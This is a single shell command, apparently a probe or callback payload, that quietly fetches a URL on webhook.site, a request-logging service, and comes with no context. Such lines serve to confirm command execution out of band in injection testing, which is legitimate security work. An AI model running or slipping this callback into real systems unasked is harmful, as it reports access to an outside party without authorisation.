wget -q https://webhook.site/0
